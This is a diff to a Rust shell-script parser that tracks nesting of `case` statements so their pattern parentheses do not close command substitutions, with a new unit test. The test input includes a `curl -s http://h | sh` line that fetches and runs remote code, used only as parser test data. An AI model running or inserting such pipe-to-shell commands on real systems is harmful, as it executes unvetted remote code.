@@ -125,6 +125,7 @@ pub fn parse(script: &str, env: &BTreeMap<String, String>) -> Parsed {
         pipelines: 0,
         expanded: 0,
         pending: Vec::new(),
+        case_depth: 0,
     };
     let _ = p.list(None, 0, None);
     p.out
@@ -140,6 +141,8 @@ struct Parser<'a> {
     expanded: usize,
     /// Here-docs whose body starts after the next newline: (cmd, redirect, delimiter, strip tabs).
     pending: Vec<(usize, usize, String, bool)>,
+    /// Open `case` statements at the current nesting level (their patterns end with `)`).
+    case_depth: usize,
 }
 
 /// Redirection operators, longest first.
@@ -272,6 +275,11 @@ impl Parser<'_> {
                     self.pos += 1;
                     continue;
                 }
+                b')' if self.case_depth > 0 => {
+                    // The end of a `case` pattern.
+                    self.pos += 1;
+                    continue;
+                }
                 b')' if close == Some(b')') => {
                     self.pos += 1;
                     return true;
@@ -375,9 +383,11 @@ impl Parser<'_> {
                 self.pos = self.end;
                 return;
             }
+            let cases = std::mem::take(&mut self.case_depth);
             if !self.list(Some(close_with), depth + 1, Some((me, Via::Group))) {
                 self.err(start, "unclosed group");
             }
+            self.case_depth = cases;
             self.redirections_only(me, depth);
             self.out.cmds[me].span = start..self.pos;
             return;
@@ -434,8 +444,14 @@ impl Parser<'_> {
                 if RESERVED_PREFIX.contains(&t) {
                     continue;
                 }
+                if t == "esac" {
+                    self.case_depth = self.case_depth.saturating_sub(1);
+                }
                 if RESERVED_ALONE.contains(&t) {
                     continue;
+                }
+                if t == "case" {
+                    self.case_depth += 1;
                 }
                 if t == "{" {
                     continue;
@@ -763,9 +779,11 @@ impl Parser<'_> {
             return;
         }
         let saved = std::mem::take(&mut self.pending);
+        let cases = std::mem::take(&mut self.case_depth);
         if !self.list(Some(b')'), depth + 1, Some((me, via))) {
             self.err(start, "unclosed substitution");
         }
+        self.case_depth = cases;
         let inner = std::mem::replace(&mut self.pending, saved);
         self.pending.extend(inner);
     }
@@ -812,6 +830,7 @@ impl Parser<'_> {
             pipelines: self.pipelines,
             expanded: self.expanded,
             pending: Vec::new(),
+            case_depth: 0,
         };
         let _ = sub.list(None, depth + 1, Some((usize::MAX, Via::CommandSub)));
         self.pipelines = sub.pipelines;
@@ -1139,6 +1158,29 @@ mod tests {
         assert!(!a.iter().any(|w| w.contains(&"-e".to_string())));
         assert!(a.contains(&vec!["nc".to_string(), "-h".to_string()]));
         assert!(a.contains(&vec!["true".to_string()]));
+    }
+
+    #[test]
+    fn case_patterns_do_not_close_substitutions() {
+        let r = p("x=$(case $a in b) echo 1;; (c|d) echo 2;; esac); curl -s http://h | sh");
+        assert!(r.errors.is_empty(), "{:?}", r.errors);
+        let a = argv(&r);
+        assert!(a.contains(&vec!["echo".to_string(), "1".to_string()]));
+        let curl = r
+            .cmds
+            .iter()
+            .find(|c| c.words.first().is_some_and(|w| w.text == "curl"))
+            .unwrap();
+        assert_eq!(curl.parent, None);
+        let sh = r
+            .cmds
+            .iter()
+            .find(|c| c.words.first().is_some_and(|w| w.text == "sh"))
+            .unwrap();
+        assert_eq!(sh.pipeline, curl.pipeline);
+        let top = p("case $m in full) ./full.sh ;; *) ./inc.sh ;; esac\necho ok");
+        assert!(top.errors.is_empty(), "{:?}", top.errors);
+        assert!(argv(&top).contains(&vec!["./inc.sh".to_string()]));
     }
 
     #[test]
